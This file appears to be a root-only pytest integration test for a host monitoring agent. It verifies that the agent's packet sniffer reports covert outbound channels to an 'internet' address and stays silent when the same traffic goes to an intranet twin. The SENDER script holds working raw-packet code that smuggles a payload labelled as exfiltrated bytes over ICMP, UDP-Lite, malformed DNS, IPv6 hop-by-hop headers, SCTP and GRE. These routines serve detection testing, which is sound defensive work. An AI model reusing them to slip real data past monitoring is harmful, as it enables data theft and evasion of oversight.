"""An insider's ways out, against the real agent: each must be a finding, its intranet twin silent.

One agent sniffs for the whole module; a network namespace (``dw14n-...``)
behind a veth pair holds two addresses from 198.51.100.0/24 (and two from
2001:db8::/32): one the registry leaves in the default ``internet`` zone,
one it names ``intranet`` (a /32 and a /128), as it does the host's end.
Every case sends the same
traffic to both, the intranet one first: the Internet one must be a
BM-NET-001 (or BM-NET-002) finding on the network collector's event (the
audit source may report the same call too), naming the sender and its operator, and
the intranet one none (the collector handles packets in order, so by the
time the second is found the first was judged).
"""

from __future__ import annotations

import ipaddress
import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from tests.integration.agent_harness import REGISTRY, AgentProcess
from tests.integration.netns import _end, _line

pytestmark = [
    pytest.mark.root,
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root: AF_PACKET, ip netns, veth, raw sockets"),
]

OFF = "  {name}: {{enabled: false}}\n"
# The audit source off: with its connect rules in force it, not the sniffer, reports plain TCP and UDP.
COLLECTORS = "".join(OFF.format(name=n) for n in ("audit", "process", "files", "media", "host")) + \
    "  network: {enabled: true, mode: sniff}\n"
USER = 1000  # 张三 in the harness registry; root is 系统管理员

SERVER = r"""
import socket, sys, threading
def hold(c):
    c.settimeout(30)
    try:
        while c.recv(4096):
            pass
    except OSError:
        pass
    c.close()
def serve(s):
    while True:
        c, _ = s.accept()
        threading.Thread(target=hold, args=(c,), daemon=True).start()
for a in sys.argv[1:]:
    for port in (53, 8080):
        s = socket.socket(socket.AF_INET6 if ":" in a else socket.AF_INET)
        s.bind((a, port)); s.listen(16)
        threading.Thread(target=serve, args=(s,), daemon=True).start()
print("ready", flush=True)
sys.stdin.read()
"""

# Each case: send, say "sent", keep every socket open until stdin closes (so the owner can be looked up).
SENDER = r"""
import socket, struct, sys
case, addr = sys.argv[1], sys.argv[2]
fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
SECRET = b"\xe6\x9c\xba\xe5\xaf\x86 exfiltrated bytes " * 3
HBH = bytes([0, 0, 1, 4, 0, 0, 0, 0])  # hop-by-hop header with one PadN option
QUERY = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05leaks\x04test\x00\x00\x01\x00\x01"
def csum(b):
    b += b"\0" * (len(b) % 2)
    s = sum(struct.unpack(f"!{len(b) // 2}H", b)); s = (s >> 16) + (s & 0xFFFF); s += s >> 16
    return ~s & 0xFFFF
keep = []
if case == "icmp-echo":
    s = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    body = struct.pack("!HH", 0x5157, 1) + SECRET
    s.sendto(struct.pack("!BBH", 8, 0, csum(b"\x08\0\0\0" + body)) + body, (addr, 0))
elif case == "icmpv6-echo":
    s = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)  # the kernel sums ICMPv6 itself
    s.sendto(b"\x80\0\0\0" + struct.pack("!HH", 0x5157, 1) + SECRET, (addr, 0))
elif case == "udplite":
    s = socket.socket(fam, socket.SOCK_DGRAM, socket.IPPROTO_UDPLITE)
    s.sendto(SECRET, (addr, 4500))
elif case.startswith("dns-"):
    s = socket.socket(fam, socket.SOCK_DGRAM)
    payload = {"dns-response": b"\x12\x34\x81\x80" + QUERY[4:] + SECRET,
               "dns-opcode": b"\x12\x34\x10\x00" + QUERY[4:] + SECRET,  # opcode 2 (status)
               "dns-short": SECRET[:9]}[case]
    s.sendto(payload, (addr, 53))
elif case == "udp6-hbh":
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_HOPOPTS, HBH)
    s.sendto(SECRET, (addr, 4500))
elif case == "tcp6-hbh":
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_HOPOPTS, HBH)
    s.settimeout(5); s.connect((addr, 8080)); s.sendall(SECRET)
elif case == "tcp-dns":
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(5); s.connect((addr, 53)); s.sendall(struct.pack("!H", len(QUERY)) + QUERY)
elif case == "sctp":
    s = socket.socket(fam, socket.SOCK_RAW, 132)
    s.sendto(struct.pack("!HHII", 40000, 9899, 0, 0) + b"\x01\0\0\x14" + b"\0" * 16, (addr, 0))  # an INIT chunk
elif case == "gre":
    s = socket.socket(fam, socket.SOCK_RAW, 47)
    s.sendto(b"\0\0\x08\0" + SECRET, (addr, 0))
keep.append(s)
print("sent", s.getsockname()[1] if s.type != socket.SOCK_RAW else 0, flush=True)
sys.stdin.read()
"""


@dataclass
class Site:
    """The namespace, its Internet and intranet addresses, and the agent watching."""

    ns: str
    host_if: str
    internet: str
    intranet: str
    internet6: str
    intranet6: str
    agent: AgentProcess


def _ip(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True, timeout=30)


def _routes() -> str:
    out = subprocess.run(["ip", "route"], capture_output=True, text=True, timeout=30).stdout
    return out + subprocess.run(["ip", "-6", "route"], capture_output=True, text=True, timeout=30).stdout


def _defaults(routes: str) -> list[str]:
    return sorted(line for line in routes.splitlines() if line.startswith("default"))


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    before = _routes()
    tag = f"dw14n-{os.getpid() % 100000}"
    host_if, ns_if = f"dw14n{os.getpid() % 100000}a", f"dw14n{os.getpid() % 100000}b"
    block = 16 + (os.getpid() % 29) * 8  # a /29 of 198.51.100.0/24 (a documentation range)
    net = ipaddress.IPv4Address("198.51.100.0") + block
    host_ip, internet, intranet = str(net + 1), str(net + 2), str(net + 3)
    six = f"2001:db8:14:{block:x}"
    internet6, intranet6 = f"{six}::2", f"{six}::3"
    registry = REGISTRY.replace(
        "{{name: intranet, cidrs: [10.0.0.0/8]}}",
        f'{{{{name: intranet, cidrs: [10.0.0.0/8, {host_ip}/32, {intranet}/32, "{six}::1/128", "{intranet6}/128"]}}}}')
    assert intranet in registry
    tmp = tmp_path_factory.mktemp("evasion")
    # Every case reaches the same Internet address as the same person: with folding on, the cases after the
    # first would be one folded record at the window's end. Each case must show as its own finding here.
    agent = AgentProcess(tmp, collectors=COLLECTORS, registry=registry.format(assets=tmp / "assets"),
                         extra_config="journal: {fold_window: 0}\n")
    server: subprocess.Popen[str] | None = None
    try:
        _ip("netns", "add", tag)
        _ip("link", "add", host_if, "type", "veth", "peer", "name", ns_if)
        _ip("link", "set", ns_if, "netns", tag)
        _ip("addr", "add", f"{host_ip}/29", "dev", host_if)
        _ip("addr", "add", f"{six}::1/64", "dev", host_if, "nodad")
        _ip("link", "set", host_if, "up")
        for a in (internet, intranet):
            _ip("-n", tag, "addr", "add", f"{a}/29", "dev", ns_if)
        for a in (internet6, intranet6):
            _ip("-n", tag, "addr", "add", f"{a}/64", "dev", ns_if, "nodad")
        _ip("-n", tag, "link", "set", ns_if, "up")
        _ip("-n", tag, "link", "set", "lo", "up")
        server = subprocess.Popen(["ip", "netns", "exec", tag, sys.executable, "-c", SERVER,
                                   internet, intranet, internet6, intranet6],
                                  stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        assert _line(server, 15) == "ready"
        agent.start()
        agent.wait(lambda: agent.metric("dutywatch_collector_up", collector="network", mode="sniff") == 1,
                   "network collector not up in sniff mode")
        yield Site(tag, host_if, internet, intranet, internet6, intranet6, agent)
        assert agent.stop() == 0
    finally:
        if agent.proc is not None and agent.proc.poll() is None:
            agent.kill()
        if server is not None:
            _end(server)
        subprocess.run(["ip", "link", "del", host_if], capture_output=True, timeout=30)
        subprocess.run(["ip", "netns", "del", tag], capture_output=True, timeout=30)
    after = _routes()
    assert _defaults(after) == _defaults(before)  # the uplink's routes are untouched
    assert host_if not in after and six not in after and str(net) not in after


def _send(case: str, addr: str, uid: int) -> subprocess.Popen[str]:
    child = subprocess.Popen(["/usr/bin/python3", "-c", SENDER, case, addr], user=uid, group=uid,
                             extra_groups=[], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    assert _line(child, 15).startswith("sent")
    return child


def _findings(site: Site, rule: str, pid: int, collector: str | None = "network") -> list[dict[str, Any]]:
    """``rule``'s findings on ``pid``'s events from ``collector`` (None: any collector)."""
    return [r for r in site.agent.events("--rule", rule) if r["event"].get("process", {}).get("pid") == pid
            and collector in (None, r["event"]["event"].get("collector"))]


CASES = [  # case, sender uid, IPv6, net.proto expected, rule
    ("icmp-echo", 0, False, "icmp", "BM-NET-001"),
    ("icmpv6-echo", 0, True, "icmpv6", "BM-NET-001"),
    ("udplite", USER, False, "udplite", "BM-NET-001"),
    ("dns-response", USER, False, "udp", "BM-NET-001"),
    ("dns-opcode", USER, False, "udp", "BM-NET-001"),
    ("dns-short", USER, False, "udp", "BM-NET-001"),
    ("udp6-hbh", 0, True, "udp", "BM-NET-001"),
    ("tcp6-hbh", 0, True, "tcp", "BM-NET-001"),
    ("tcp-dns", USER, False, "tcp", "BM-NET-002"),
    ("sctp", 0, False, "sctp", "BM-NET-001"),
    ("gre", 0, False, "gre", "BM-NET-001"),
]


@pytest.mark.parametrize(("case", "uid", "v6", "proto", "rule"), CASES, ids=[c[0] for c in CASES])
def test_a_way_out_is_found_and_its_intranet_twin_is_silent(
        site: Site, case: str, uid: int, v6: bool, proto: str, rule: str) -> None:
    internet, intranet = (site.internet6, site.intranet6) if v6 else (site.internet, site.intranet)
    near = _send(case, intranet, uid)
    _end(near)  # a raw socket is named by its protocol alone: two open at once would leave the sender unknown
    out: subprocess.Popen[str] | None = None
    try:
        out = _send(case, internet, uid)
        child = out
        try:
            site.agent.wait(lambda: bool(_findings(site, rule, child.pid)), f"no {rule} finding for {case}")
        except AssertionError:
            seen = [(r.get("rule"), r["event"]["net"], r["event"].get("process", {}).get("pid"))
                    for r in site.agent.events() if "event" in r]
            raise AssertionError(f"no {rule} finding for {case} from pid {child.pid}; findings: {seen}") from None
        (rec,) = _findings(site, rule, child.pid)
        ev = rec["event"]
        assert (ev["net"]["remote_ip"], ev["net"]["remote_zone"], ev["net"]["proto"]) == (internet, "internet", proto)
        assert ev["process"]["uid"] == uid
        assert rec["accountable"]["operator"] == ("张三" if uid == USER else "系统管理员")
        if case.startswith("dns-"):
            assert ev["net"]["dns_malformed"] is True and ev["net"]["remote_port"] == 53
            assert "domain" not in ev["net"]
        if case == "tcp-dns":
            assert ev["event"]["kind"] == "net.dns" and ev["net"]["domain"] == "leaks.test"
        # The same traffic to the intranet address was judged first and found nothing.
        assert not _findings(site, "BM-NET-001", near.pid, None) and not _findings(site, "BM-NET-002", near.pid, None)
    finally:
        if out is not None:
            _end(out)


def test_a_flood_of_new_flows_is_bounded_and_its_evictions_counted(site: Site) -> None:
    """Thousands of distinct UDP flows: the flow table stays at its size and says what it forgot."""
    flood = r"""
import socket, sys
s = socket.socket(); u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for port in range(20000, 20000 + int(sys.argv[2])):
    u.sendto(b"f", (sys.argv[1], port))
print("sent", flush=True)
sys.stdin.read()
"""
    before = site.agent.metric("dutywatch_events_dropped_total", collector="network", reason="flow_evicted")
    child = subprocess.Popen([sys.executable, "-c", flood, site.intranet, "6000"], stdin=subprocess.PIPE,
                             stdout=subprocess.PIPE, text=True)
    try:
        assert _line(child, 30) == "sent"
        # 6000 new flows through a table of 4096: at least 1904 forgotten, each counted
        site.agent.wait(lambda: site.agent.metric("dutywatch_events_dropped_total", collector="network",
                                                  reason="flow_evicted") - before >= 1904,
                        "evictions not counted", timeout=60)
    finally:
        _end(child)
    assert site.agent.healthy()
